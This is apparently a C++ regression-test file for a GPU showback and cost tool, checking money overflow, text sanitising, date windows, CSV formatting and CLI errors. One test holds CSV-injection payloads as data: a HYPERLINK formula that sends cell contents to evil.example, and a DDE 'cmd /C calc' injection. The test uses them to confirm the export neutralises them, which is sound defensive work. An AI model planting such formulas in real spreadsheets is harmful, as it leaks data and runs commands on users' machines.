// Regression tests for the money, showback and CLI findings of issue 7 (findings 4, 8, 9, 10):
// each failed on the code before the fix.
#include <gtest/gtest.h>

#include <algorithm>
#include <cmath>
#include <fstream>
#include <nlohmann/json.hpp>
#include <random>
#include <sstream>

#include "cmd/commands.h"
#include "core/base/csv.h"
#include "core/base/names.h"
#include "core/cli/cli.h"
#include "core/config/config.h"
#include "core/cost/ledger.h"
#include "core/cost/money.h"
#include "core/cost/openb_import.h"
#include "core/cost/showback.h"
#include "core/gpu/gpu_catalog.h"
#include "core/kube/kube_client.h"
#include "recommender/cmd/commands.h"
#include "test/support/temp_dir.h"

namespace gpuvpa {
namespace {

using cmd::RunImportOpenbCommand;
using cmd::RunShowbackCommand;

// Issue 23, finding 12: a proxy's 502 page of any bytes became an API error whose message went
// into an Event, a ledger row and a JSON dump that threw and ended the updater's cycle. Peer
// text is now valid UTF-8, on one line and bounded wherever it enters.
TEST(PeerTextTrustTest, AnErrorPageOfAnyBytesBecomesBoundedUtf8) {
  const std::string page = "<html>\xff\xfe Bad Gateway\r\n\x1b[31m" + std::string(5000, 'x') +
                           "\xe2\x82";  // a torn euro sign at the end
  const Status s = KubeApiError(502, page, "patch deployments ml-dev/server");
  EXPECT_TRUE(IsValidUtf8(s.message()));
  EXPECT_EQ(s.message().find('\n'), std::string::npos);
  EXPECT_LT(s.message().size(), 1100u);
  EXPECT_NE(s.message().find("HTTP 502: <html>?? Bad Gateway"), std::string::npos) << s.message();
  const nlohmann::json as_json = {{"message", s.message()}};
  EXPECT_NO_THROW((void)as_json.dump());
  EXPECT_EQ(SanitizeText("caf\xc3\xa9 \xe2\x82\xac", 100), "caf\xc3\xa9 \xe2\x82\xac");
  EXPECT_EQ(SanitizeText("caf\xc3\xa9", 4), "caf") << "cut at a character boundary";
  EXPECT_EQ(SanitizeText("a\tb\x7f"
                         "c",
                         10),
            "a b c");
}

TEST(MoneyTrustTest, Finding4AHugePriceIsRefusedNamingTheValue) {
  Result<GpuvpaConfig> c =
      ParseConfig("prices:\n  - {gpu_model: H100-80GB, usd_per_gpu_hour: 1e300}\n");
  ASSERT_FALSE(c.ok());
  EXPECT_NE(c.status().message().find("1e+300"), std::string::npos) << c.status().message();
  EXPECT_NE(c.status().message().find("max_usd_per_gpu_hour"), std::string::npos);
  EXPECT_FALSE(ParseConfig("prices:\n  - {gpu_model: T4, usd_per_gpu_hour: 0}\n").ok());
  // The bound is configurable.
  EXPECT_TRUE(ParseConfig("max_usd_per_gpu_hour: 5000\nprices:\n  - {gpu_model: H100-80GB, "
                          "usd_per_gpu_hour: 2500}\n")
                  .ok());
}

TEST(MoneyTrustTest, Finding4ConversionsAndSumsAreChecked) {
  EXPECT_FALSE(PriceGpuTime(INT64_MAX / 2, 999).ok());
  EXPECT_FALSE(GpuSecondsToMilli(1e300).ok());
  EXPECT_FALSE(GpuSecondsToMilli(std::numeric_limits<double>::quiet_NaN()).ok());
  int64_t sum = INT64_MAX - 1;
  EXPECT_FALSE(CheckedAdd(sum, 2, "test").ok());
  EXPECT_EQ(sum, INT64_MAX - 1) << "unchanged on overflow";
  EXPECT_EQ(FormatUsd(INT64_MIN), "-$9,223,372,036,854.78");  // no UB on the magnitude
  // A long digit run in a model name is not a memory size (and no signed overflow under UBSan).
  EXPECT_FALSE(GpuCatalog::BuiltIn().FindModel("A100 99999999999999999999999GB").ok());
}

LedgerAction Usage(const std::string& id, const std::string& cost_center, int64_t start,
                   int64_t end, MicroUsd allocated) {
  LedgerAction a;
  a.action_id = id;
  a.time_s = end;
  a.kind = ActionKind::kAllocatedUsage;
  a.status = ActionStatus::kApplied;
  a.namespace_name = "ns";
  a.workload = "Deployment/w/main";
  a.cost_center = cost_center;
  a.gpu_model = "H100-80GB";
  a.period_start_s = start;
  a.period_end_s = end;
  a.allocated_gpu_time = (end - start) * 1000;
  a.allocated = allocated;
  return a;
}

class ShowbackTrustTest : public ::testing::Test {
 protected:
  void SetUp() override { ledger_ = std::move(Ledger::Open(path_)).value(); }
  int Showback(const std::vector<std::string>& args) {
    out_.str("");
    err_.str("");
    std::vector<std::string> all = {"--ledger", path_};
    all.insert(all.end(), args.begin(), args.end());
    return RunShowbackCommand(all, out_, err_);
  }
  testing::ScopedTempDir tmp_;
  std::string path_ = tmp_.Path("ledger.db");
  std::unique_ptr<Ledger> ledger_;
  std::ostringstream out_, err_;
};

TEST_F(ShowbackTrustTest, Finding4TheLedgerRefusesNegativeMoneyAndOverflowingSums) {
  LedgerAction negative = Usage("neg", "a", 0, 10, -1);
  Result<size_t> r = ledger_->Append(negative);
  ASSERT_FALSE(r.ok());
  EXPECT_NE(r.status().message().find("allocated -1 is negative"), std::string::npos);
  // An amount no sum can hold is refused at the door (issue 23: two INT64_MAX rows made every
  // showback fail); sums of rows within the bound are checked too (LedgerTest).
  r = ledger_->Append(Usage("big-1", "a", 0, 10, INT64_MAX - 10));
  ASSERT_FALSE(r.ok());
  EXPECT_NE(r.status().message().find("is above its bound"), std::string::npos)
      << r.status().message();
}

TEST_F(ShowbackTrustTest, Finding8WindowsProrateBySecondsAndAcceptDates) {
  const int64_t day = 86400, start = 1793577600;  // 2026-11-02
  // One row for a whole week, $7.00: a window of one day holds $1.00 of it.
  ASSERT_TRUE(ledger_->Append(Usage("week", "a", start, start + 7 * day, 7'000'000)).ok());
  ASSERT_EQ(Showback({"--from", "2026-11-02", "--to", "2026-11-09", "--format", "json"}), 0)
      << err_.str();
  nlohmann::json doc = nlohmann::json::parse(out_.str());
  EXPECT_DOUBLE_EQ(doc["total"]["allocated_usd"].get<double>(), 7.0) << "the whole week";
  EXPECT_EQ(doc["period"]["from"], "2026-11-02T00:00:00Z");
  ASSERT_EQ(Showback({"--from", "2026-11-03", "--to", "2026-11-04", "--format", "json"}), 0);
  doc = nlohmann::json::parse(out_.str());
  EXPECT_DOUBLE_EQ(doc["total"]["allocated_usd"].get<double>(), 1.0) << "one day of seven";
  EXPECT_DOUBLE_EQ(doc["total"]["allocated_gpu_hours"].get<double>(), 24.0);
  ASSERT_EQ(Showback({"--from", "2026-11-08T12:00:00Z", "--format", "json"}), 0);
  EXPECT_DOUBLE_EQ(nlohmann::json::parse(out_.str())["total"]["allocated_usd"].get<double>(), 0.5);
  EXPECT_EQ(Showback({"--to", "2026-02-31"}), 2);
  EXPECT_NE(err_.str().find("2026-02-31"), std::string::npos) << err_.str();
  EXPECT_EQ(Showback({"--from", "2026-11-09", "--to", "2026-11-02"}), 2);
  EXPECT_NE(err_.str().find("is not before"), std::string::npos) << err_.str();
}

// Issue 24 (finance export): a cost center a spreadsheet would run as a formula is written as
// text (OWASP's CSV-injection rule: =, +, -, @, tab, carriage return); every row states its
// window and currency; numbers stay numbers.
TEST_F(ShowbackTrustTest, CsvCellsASpreadsheetWouldRunAreWrittenAsTextWithPeriodAndCurrency) {
  const std::vector<std::string> hostile = {"=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")",
                                            "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)"};
  for (size_t i = 0; i < hostile.size(); ++i)
    ASSERT_TRUE(
        ledger_->Append(Usage("h" + std::to_string(i), hostile[i], 0, 3600, 1'000'000)).ok())
        << hostile[i];
  // Tab and carriage return never reach a file: the ledger refuses control characters.
  for (const char* control : {"\tleading-tab", "\rleading-cr"})
    EXPECT_FALSE(ledger_->Append(Usage(control, control, 0, 3600, 1'000'000)).ok());
  EXPECT_EQ(CsvText("\tx"), "'\tx");
  EXPECT_EQ(CsvText("\rx"), "\"'\rx\"");
  EXPECT_EQ(CsvText("-1"), "'-1");
  EXPECT_EQ(CsvNumber("-1.500000"), "-1.500000");
  ASSERT_TRUE(ledger_->Append(Usage("ok", "research", 0, 3600, 2'000'000)).ok());
  ASSERT_EQ(Showback({"--format", "csv", "--from", "1970-01-01", "--to", "1970-01-02"}), 0)
      << err_.str();
  const std::string csv = out_.str();
  EXPECT_EQ(csv.rfind("cost_center,period_start,period_end,currency,", 0), 0u) << csv;
  std::istringstream in(csv);
  std::string line;
  std::getline(in, line);
  int rows = 0;
  for (; std::getline(in, line); ++rows) {
    // The first cell, unquoted: never one a spreadsheet evaluates.
    std::string first = line.substr(0, line.find(",1970-01-01T00:00:00Z,"));
    if (first.size() >= 2 && first.front() == '"') first = first.substr(1, first.size() - 2);
    ASSERT_FALSE(first.empty()) << line;
    EXPECT_EQ(std::string("=+-@\t\r").find(first[0]), std::string::npos) << line;
    EXPECT_NE(line.find(",1970-01-01T00:00:00Z,1970-01-02T00:00:00Z,USD,"), std::string::npos)
        << line;
  }
  EXPECT_GE(rows, 2);
  EXPECT_NE(csv.find("\r\n\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"x\"\")\","),
            std::string::npos)
      << csv;
  EXPECT_NE(csv.find("\r\n'@SUM(A1:A9),"), std::string::npos) << csv;
  EXPECT_NE(csv.find("\r\nresearch,1970-01-01T00:00:00Z,1970-01-02T00:00:00Z,USD,1.000,2.000000,"),
            std::string::npos)
      << csv;
}

// The displayed TOTAL is the sum of the displayed rows, to the cent, for any amounts: three
// groups of $1/3 each show $0.34 + $0.33 + $0.33 = $1.00, not 3 x $0.33 against a $1.00 total.
TEST_F(ShowbackTrustTest, TheDisplayedTotalEqualsTheSumOfTheDisplayedRows) {
  std::mt19937_64 rng(24);
  for (int round = 0; round < 50; ++round) {
    testing::ScopedTempDir dir;
    auto ledger = std::move(Ledger::Open(dir.Path("l.db"))).value();
    const int groups = round == 0 ? 3 : 1 + static_cast<int>(rng() % 9);
    for (int g = 0; g < groups; ++g)
      for (int r = 0; r < (round == 0 ? 1 : 3); ++r)
        ASSERT_TRUE(ledger
                        ->Append(Usage("r" + std::to_string(g) + "-" + std::to_string(r),
                                       "cc" + std::to_string(g), 0, 3600,
                                       round == 0 ? 333'333 + (g == 0 && r == 0)
                                                  : static_cast<MicroUsd>(rng() % 5'000'000)))
                        .ok());
    const gpuvpa::Showback s = *ledger->QueryShowback({});
    for (ReportFormat format : {ReportFormat::kTable, ReportFormat::kMarkdown}) {
      std::istringstream in(FormatShowback(s, ShowbackGroup::kCostCenter, format));
      std::vector<std::vector<std::string>> table;
      for (std::string line; std::getline(in, line);) {
        std::vector<std::string> cells;
        std::istringstream words(line);
        for (std::string w; words >> w;)
          if (w != "|") cells.push_back(w);
        if (!cells.empty() && (cells[0].rfind("cc", 0) == 0 || cells[0] == "TOTAL"))
          table.push_back(cells);
      }
      ASSERT_EQ(table.size(), static_cast<size_t>(groups) + 1);
      for (size_t col = 1; col < table[0].size(); ++col) {
        if (table.back()[col].find('$') == std::string::npos) continue;
        auto cents = [](std::string v) {
          v.erase(std::remove_if(v.begin(), v.end(), [](char c) { return c == '$' || c == ','; }),
                  v.end());
          return std::llround(std::stod(v) * 100);
        };
        long long sum = 0;
        for (size_t r = 0; r + 1 < table.size(); ++r) sum += cents(table[r][col]);
        EXPECT_EQ(sum, cents(table.back()[col])) << "round " << round << " column " << col;
      }
      if (round == 0) {
        EXPECT_EQ(table[0][2], "$0.34");
        EXPECT_EQ(table[1][2], "$0.33");
        EXPECT_EQ(table.back()[2], "$1.00");
      }
    }
  }
}

// Billed: each GPU-second once. A workload metered by the scaler is billed by its metering and
// its allocation estimate (DCGM saw the same pods) is shown as not billed; others are billed by
// allocation.
TEST_F(ShowbackTrustTest, BilledCountsMeteredWorkloadsOnceAndAllocatedOnesOtherwise) {
  LedgerAction alloc_metered = Usage("a1", "agents", 0, 3600, 4'000'000);
  alloc_metered.workload = "Deployment/agent-loop/main";
  LedgerAction alloc_plain = Usage("a2", "agents", 0, 3600, 3'000'000);
  alloc_plain.workload = "Deployment/batch/main";
  LedgerAction metered = Usage("m1", "agents", 0, 3600, 0);
  metered.kind = ActionKind::kMeteredPeriod;
  metered.workload = "Deployment/agent-loop/main";
  metered.allocated_gpu_time = 0;
  metered.metered_gpu_time = 900'000;
  metered.metered = 1'000'000;
  for (const LedgerAction& a : {alloc_metered, alloc_plain, metered})
    ASSERT_TRUE(ledger_->Append(a).ok()) << a.action_id;
  const gpuvpa::Showback s = *ledger_->QueryShowback({});
  ASSERT_EQ(s.groups.size(), 1u);
  EXPECT_EQ(s.total.allocated, 7'000'000);
  EXPECT_EQ(s.total.metered, 1'000'000);
  EXPECT_EQ(s.total.billed, 4'000'000) << "$1 metered + $3 allocated, not $8";
  EXPECT_EQ(s.total.billed_metered, 1'000'000);
  EXPECT_EQ(s.total.allocated_unbilled, 4'000'000);
  ASSERT_EQ(Showback({"--format", "json"}), 0) << err_.str();
  const nlohmann::json doc = nlohmann::json::parse(out_.str());
  EXPECT_DOUBLE_EQ(doc["total"]["billed_usd"].get<double>(), 4.0) << doc.dump();
}

TEST_F(ShowbackTrustTest, Finding9CsvIsRfc4180WithoutATotalRow) {
  ASSERT_TRUE(ledger_->Append(Usage("x", "research, EU \"west\"", 0, 3600, 1'000'000)).ok());
  ASSERT_TRUE(ledger_->Append(Usage("y", "plain", 0, 3600, 2'000'000)).ok());
  ASSERT_EQ(Showback({"--format", "csv"}), 0) << err_.str();
  const std::string csv = out_.str();
  EXPECT_EQ(csv.find("TOTAL"), std::string::npos) << csv;
  EXPECT_NE(csv.find("\r\n\"research, EU \"\"west\"\"\",,,USD,1.000,1.000000"), std::string::npos)
      << csv;
  // Every record has the header's field count when read by RFC 4180 rules.
  std::istringstream in(csv);
  std::vector<size_t> fields;
  for (std::string line; std::getline(in, line);) {
    size_t n = 1;
    bool quoted = false;
    for (char c : line) {
      if (c == '"') quoted = !quoted;
      if (c == ',' && !quoted) ++n;
    }
    fields.push_back(n);
  }
  ASSERT_EQ(fields.size(), 3u);
  EXPECT_EQ(fields[1], fields[0]);
  EXPECT_EQ(fields[2], fields[0]);
}

class CliTrustTest : public ::testing::Test {
 protected:
  testing::ScopedTempDir tmp_;
  std::ostringstream out_, err_;
};

TEST_F(CliTrustTest, Finding10HelpVersionAndUnknownCommands) {
  using Run = int (*)(const std::vector<std::string>&, std::ostream&, std::ostream&);
  for (Run run : {Run{recommender::RunRecommendCommand}, Run{recommender::RunDemoTraceCommand},
                  Run{RunShowbackCommand}, Run{RunImportOpenbCommand}}) {
    out_.str("");
    EXPECT_EQ(run({"--help"}, out_, err_), 0);
    EXPECT_NE(out_.str().find("Usage: gpuvpa "), std::string::npos) << out_.str();
    out_.str("");
    EXPECT_EQ(run({"--version"}, out_, err_), 0);
    EXPECT_NE(out_.str().find(std::string(GpuvpaVersion())), std::string::npos);
  }
  const std::vector<Subcommand> commands = {
      {"recommend", "r", [](auto&, auto&, auto&) { return 0; }},
      {"showback", "s", [](auto&, auto&, auto&) { return 0; }}};
  err_.str("");
  EXPECT_EQ(RunDispatcher("gpuvpa", "d", commands, {"recomend"}, out_, err_), 2);
  EXPECT_NE(err_.str().find("unknown command \"recomend\"; did you mean \"recommend\"?"),
            std::string::npos)
      << err_.str();
  EXPECT_EQ(RunDispatcher("gpuvpa", "d", commands, {"--help"}, out_, err_), 0);
  EXPECT_EQ(RunDispatcher("gpuvpa", "d", commands, {}, out_, err_), 2);
}

TEST_F(CliTrustTest, Finding10RangesPathsHeadersBomAndRowErrors) {
  using recommender::RunRecommendCommand;
  EXPECT_EQ(RunRecommendCommand({"--trace", "x", "--min-history-hours", "-1"}, out_, err_), 2);
  EXPECT_NE(err_.str().find("--min-history-hours"), std::string::npos) << err_.str();
  // A wrong file lists the expected columns and points an openb file to import-openb.
  err_.str("");
  EXPECT_EQ(RunRecommendCommand({"--trace", GPUVPA_SHARED_DATA_DIR "/openb_pod_list_default.csv"},
                                out_, err_),
            1);
  EXPECT_NE(err_.str().find("required: timestamp, namespace"), std::string::npos) << err_.str();
  EXPECT_NE(err_.str().find("gpuvpa import-openb"), std::string::npos) << err_.str();
  // An output path in a missing directory fails before any work.
  const std::string trace = tmp_.Path("t.csv");
  std::string csv =
      "\xEF\xBB\xBFtimestamp,namespace,workload_kind,workload_name,container,pod,gpu_model,"
      "allocation,vram_bytes,sm_active\n";
  for (int i = 0; i < 25; ++i)
    csv += "2026-11-02T00:00:00Z,ns,Deployment,w,c,p,H100-80GB,bad,1,0\n";
  csv += "2026-11-02T00:00:00Z,ns,Deployment,w,c,p,H100-80GB,nvidia.com/gpu=1,1e9,0.5\n";
  std::ofstream(trace) << csv;
  err_.str("");
  EXPECT_EQ(RunRecommendCommand({"--trace", trace, "--checkpoint", tmp_.Path("no/such/ckpt")}, out_,
                                err_),
            1);
  EXPECT_NE(err_.str().find("does not exist"), std::string::npos) << err_.str();
  EXPECT_EQ(err_.str().find("trace:"), std::string::npos) << "failed before the replay";
  // The BOM is accepted; 25 bad rows print 20 and "and 5 more".
  err_.str("");
  EXPECT_EQ(RunRecommendCommand({"--trace", trace, "--now", "2026-11-03"}, out_, err_), 0)
      << err_.str();
  EXPECT_NE(err_.str().find("... and 5 more malformed rows"), std::string::npos) << err_.str();
  EXPECT_NE(err_.str().find("1 accepted"), std::string::npos) << err_.str();
}

}  // namespace
}  // namespace gpuvpa
